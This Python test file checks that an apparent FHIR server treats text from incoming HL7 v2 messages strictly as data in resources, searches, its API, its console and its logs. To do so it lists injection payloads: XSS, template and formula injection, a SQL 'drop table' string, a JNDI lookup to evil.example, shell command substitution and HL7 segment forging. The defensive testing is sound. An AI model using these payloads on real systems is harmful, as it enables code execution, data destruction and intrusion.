"""N42: what stands in an HL7 message is text wherever it comes out: resources, pages, searches, logs, answers.

https://owasp.org/www-project-web-security-testing-guide/ (template, CSV, log and FHIRPath injection)
"""

from __future__ import annotations

import json
from urllib.parse import quote

import pytest
from structlog.testing import capture_logs

from fhir_server.app import worker
from mappings.hl7v2 import escape
from tests.engine.world import PEER, receiver
from tests.fhir import Client

TEXTS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "{{7*7}}{%print 7*7%}${7*7}#{7*7}",
    "=cmd|'/c calc'!A1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '+1-1,"x"\tz',
    "' or '1'='1'; drop table resource; --",
    "Patient.name.where(true) | %resource.repeat($this)",
    "') or true or ('",
    "%s%n%(x)s{0.__class__}",
    "${jndi:ldap://evil.example/a}",
    "$(id)`id`",
    "</div><div xmlns='http://www.w3.org/1999/xhtml'>",
    "[bold]x[/] [/]",
    "\ufdfd \u202eevil",
)


def message(control_id: str, text: str) -> bytes:
    """Return a message that says a text wherever it can."""
    said = escape(text)
    lines = (
        f"MSH|^~\\&|{said}|NORTH|{said}|C|20260301110000+0000||ORU^R01^ORU_R01|{control_id}|P|2.5.1||||||UNICODE UTF-8",
        f"PID|1||{control_id}^^^NORTH^MR||{said}^{said}||19700101|F",
        f"OBR|1|{said}|F{control_id}|1^{said}^L|||20260301100000+0000",
        f"OBX|1|ST|2^{said}^L||{said}||||||F",
        f"OBX|2|FT|3^Text^L||{said}||||||F",
        f"NTE|1||{said}",
    )
    return "".join(line + "\r" for line in lines).encode()


@pytest.fixture
async def events(fhir: Client) -> list[object]:
    """Have a message with each text worked; give what was logged meanwhile."""
    concord = fhir.concord
    door = receiver(concord.db, fhir.tenant_as_named(), clock=concord.clock)
    with capture_logs() as found:
        for number, text in enumerate(TEXTS):
            answer = await door.message(message(f"n42-{number}", text), PEER)
            assert b"MSA|AA|" in (answer or b"")
            assert (answer or b"").count(b"\r") == 2
        await worker(concord).drain()
    return list(found)


async def test_n42_text_of_a_message_is_the_same_text_in_its_resources_and_nowhere_markup(
    fhir: Client, events: list[object]
) -> None:
    for number, text in enumerate(TEXTS):
        (entry,) = (await fhir.get(f"/Patient?identifier=n42-{number}")).json()["entry"]
        patient = entry["resource"]
        assert patient["name"][0]["family"] == text
        assert "text" not in patient
        found = (await fhir.get(f"/Observation?patient=Patient/{patient['id']}")).json()["entry"]
        assert {one["resource"]["valueString"] for one in found} == {text}
        assert not any("text" in one["resource"] for one in found)


async def test_n42_a_search_for_such_text_finds_it_and_nothing_else(fhir: Client, events: list[object]) -> None:
    for number, text in enumerate(TEXTS):
        wanted = text.replace("\\", "\\\\").replace(",", "\\,").replace("|", "\\|").replace("$", "\\$")
        answer = await fhir.get(f"/Patient?family:exact={quote(wanted)}")
        assert answer.status_code == 200, answer.text
        found = [one["resource"]["identifier"][0]["value"] for one in answer.json().get("entry", [])]
        assert found == [f"n42-{number}"], text


async def test_n42_pages_and_the_api_of_messages_give_it_as_data(fhir: Client, events: list[object]) -> None:
    token = await fhir.token("system/*.cruds")
    at = fhir.base.removesuffix("/fhir")
    answer = await fhir.http.get(f"{at}/api/messages?limit=100", headers={"authorization": f"Bearer {token}"})
    assert answer.status_code == 200, answer.text
    assert answer.headers["content-type"] == "application/json"
    assert answer.headers["x-content-type-options"] == "nosniff"
    senders = {row["sender_app"] for row in answer.json()}
    assert set(TEXTS) <= {sender for sender in senders if sender}
    page = await fhir.http.get(at.rpartition("/")[0] + "/console", headers={"authorization": f"Bearer {token}"})
    assert "<script>alert" not in page.text


async def test_n42_logs_and_issues_hold_no_text_of_a_message_that_could_forge_a_line(
    fhir: Client, events: list[object]
) -> None:
    logged = json.dumps([str(event) for event in events])
    assert not [text for text in TEXTS if text in logged or json.dumps(text)[1:-1] in logged]


async def test_n42_line_ends_in_a_field_that_is_echoed_make_no_segment_of_the_answer(fhir: Client) -> None:
    wild = "MSH|^~\\&|A\\X0D\\MSA|N|C|C|20260301||ADT^A04|1\\X0D\\ERR~x|P|2.5\rPID|1||1^^^N^MR||Meier\r"
    door = receiver(fhir.concord.db, fhir.tenant_as_named())
    answer = (await door.message(wild.encode(), PEER) or b"").decode()
    assert [line[:3] for line in answer.rstrip("\r").split("\r")][:2] == ["MSH", "MSA"]
    assert "\\X0D\\ERR~x" in answer
